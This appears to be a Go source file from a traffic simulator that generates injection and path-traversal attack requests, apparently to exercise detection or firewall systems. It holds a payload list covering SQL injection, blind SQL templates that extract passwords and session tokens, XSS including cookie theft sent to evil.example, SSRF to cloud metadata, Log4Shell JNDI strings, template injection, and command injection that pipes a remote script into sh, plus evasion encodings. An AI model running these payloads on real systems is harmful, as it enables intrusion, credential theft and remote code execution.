package simulate

import (
	"fmt"
	"strings"
)

// Payloads sends what a careless programme would execute: SQL, scripts,
// templates, paths that climb, addresses of the inside. Scanners send long
// rows of them; a patient person asks one question at a time and reads the
// answer from a status, a length or a delay.
// Sources: OWASP WSTG-INPV; CAPEC-66, 63, 126, 664; CVE-2021-44228 reports.
var Payloads = register(Kind{
	Name:   "payload_attack",
	Title:  "Injection and traversal in paths and queries",
	Attack: true,
	start: func(c *cast) {
		t := c.tempo([3]int{1, 8, 50}, [4]float64{20, 600, 100, 3000}, [4]float64{2, 40, 40, 600}, [4]float64{0.1, 3, 20, 250})
		var classes []string
		for range pick3(c, 3, c.count(1, 3), c.count(1, 2)) {
			classes = append(classes, c.pick([]string{"sqli", "sqli", "xss", "ssrf", "jndi", "traversal", "template", "command"}))
		}
		harmless := pick3(c, 0, c.between(0, 0.2), c.between(0.1, 0.5)) // values sent to compare with
		veiled := pick3(c, 0, c.between(0, 0.4), c.between(0.2, 0.9))
		vulnerable := c.chance(0.5)
		where := []string{c.pick([]string{"q", "sort", "filter", "id"}), c.pick([]string{"page", "redirect", "file", "lang", "url"})}
		blind := c.label.Variant == "evasive" && c.chance(0.5)
		if blind {
			classes = []string{"sqli"}
		}
		who := identity{}
		if c.api.members || c.chance(0.2) {
			who = c.account(0)
		}
		c.note(fmt.Sprintf("%s in %v, %s, blind %v, veiled %.0f%%, compared with %.0f%%, vulnerable %v", strings.Join(classes, "+"), where, t, blind, veiled*100, harmless*100, vulnerable))
		c.perform(t, who, func(cl *client, i int) {
			class := cl.pick(classes)
			load := cl.pick(payloads[class])
			if blind {
				load = fmt.Sprintf(cl.pick(blindSQL), 1+i/7, 64+cl.IntN(60))
			}
			cl.attackWith(class, load, cl.pick(where), cl.chance(veiled), vulnerable, cl.chance(harmless))
		})
	},
})

// payloads as scanners and people send them.
var payloads = map[string][]string{
	"sqli": {"' OR '1'='1", "1' AND 1=1-- -", "1 AND 1=2", "' UNION SELECT NULL,NULL,NULL-- -", "1; DROP TABLE users--", "' AND SLEEP(5)-- -", "1' WAITFOR DELAY '0:0:5'--", "') OR ('a'='a",
		"1 ORDER BY 10--", "' UNION ALL SELECT table_name,2 FROM information_schema.tables--", "admin'--", "1' AND EXTRACTVALUE(1,CONCAT(0x7e,version()))-- -", "1);SELECT pg_sleep(5)--", "\" OR \"\"=\""},
	"xss": {"<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=confirm(1)>", "javascript:alert(document.cookie)", "'-alert(1)-'", "<iframe src=javascript:alert(1)>",
		"<body onload=alert(1)>", "</script><script>fetch('//evil.example/'+document.cookie)</script>"},
	"ssrf": {"http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://127.0.0.1:8080/admin", "http://localhost:22", "file:///etc/passwd", "gopher://127.0.0.1:6379/_INFO", "http://[::1]/", "http://0x7f000001/",
		"http://metadata.google.internal/computeMetadata/v1/", "dict://127.0.0.1:11211/stats", "http://x7f2.oast.example/"},
	"jndi":      {"${jndi:ldap://x7f2.oast.example/a}", "${${lower:j}ndi:${lower:l}dap://198.51.100.4:1389/a}", "${jndi:dns://x7f2.oast.example}", "${${::-j}${::-n}${::-d}${::-i}:rmi://198.51.100.4/a}"},
	"traversal": {"../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//....//etc/passwd", "/etc/passwd\x00.png", "../../../../proc/self/environ", "..;/manager/html", "../../../app/config/parameters.yml"},
	"template":  {"{{7*7}}", "${7*7}", "<%= 7*7 %>", "{{config.items()}}", "#{7*7}", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{request.application.__globals__}}", "*{T(java.lang.Runtime).getRuntime().exec('id')}"},
	"command":   {";id", "|whoami", "`id`", "$(sleep 5)", "&& cat /etc/passwd", "; ping -c 3 x7f2.oast.example", "| curl http://198.51.100.4/x.sh | sh"},
}

// blindSQL asks for one letter of a secret; %[1]d is which, %[2]d its guess.
var blindSQL = []string{"1 AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),%d,1))>%d", "x' AND (SELECT ASCII(MID(token,%d,1)) FROM sessions LIMIT 1)<%d AND '1'='1",
	"1 AND IF(ASCII(SUBSTR(user(),%d,1))>%d,SLEEP(2),0)"}

// attackWith sends a payload, or in place of it a value to compare with.
func (c *client) attackWith(class, load, param string, veiled, vulnerable, harmless bool) int {
	if harmless {
		load = c.pick([]string{"1", "2", c.pick(words), "0", "999999"})
	}
	text := escape(load)
	if veiled && !harmless {
		switch c.IntN(3) {
		case 0:
			text = strings.ReplaceAll(text, "%", "%25")
		case 1:
			text = strings.NewReplacer("%20", "/**/", "+", "/**/", "UNION", "uNiOn", "SELECT", "sElEcT", "script", "sCrIpT", "AND", "aNd").Replace(text)
		default:
			text = strings.NewReplacer(".", "%2e", "/", "%2f", "o", "%6f", "a", "%61").Replace(text)
		}
	}
	a := ask{method: "GET", path: c.api.search, query: param + "=" + text, status: 200, out: 2400, slow: 2}
	if param == "id" || class == "traversal" && c.chance(0.5) {
		col := c.api.owned[0]
		a.path, a.query = col.path+"/"+text, ""
		a.status, a.out = c.pickInt(404, 404, 400), 120
	} else if c.chance(0.3) {
		a.path = c.api.owned[len(c.api.owned)-1].path
	}
	switch {
	case harmless:
	case c.api.waf && !veiled && c.chance(0.9), c.api.waf && c.chance(0.3):
		a.status, a.out, a.slow = 403, 1100, 0.2
	case vulnerable && (strings.Contains(load, "SLEEP") || strings.Contains(load, "sleep") || strings.Contains(load, "DELAY")) && c.chance(0.6):
		a.slow = c.between(2000, 5400) / c.api.latency
	case vulnerable && c.chance(0.2):
		a.status, a.out = 500, 860
	case vulnerable && c.chance(0.2): // the secret comes back
		a.out = c.wide(2000, 40000)
	case c.chance(0.3):
		a.status, a.out = c.pickInt(400, 422), 150
	}
	if class == "jndi" && c.chance(0.4) {
		before := c.agent
		c.agent = load
		defer func() { c.agent = before }()
	}
	return c.send(a)
}

// escape writes text as a client does in a URL.
func escape(s string) string {
	var b strings.Builder
	for i := range len(s) {
		switch x := s[i]; {
		case x >= 'a' && x <= 'z', x >= 'A' && x <= 'Z', x >= '0' && x <= '9', strings.IndexByte("-_.~*:/'(),;", x) >= 0:
			b.WriteByte(x)
		default:
			fmt.Fprintf(&b, "%%%02X", x)
		}
	}
	return b.String()
}
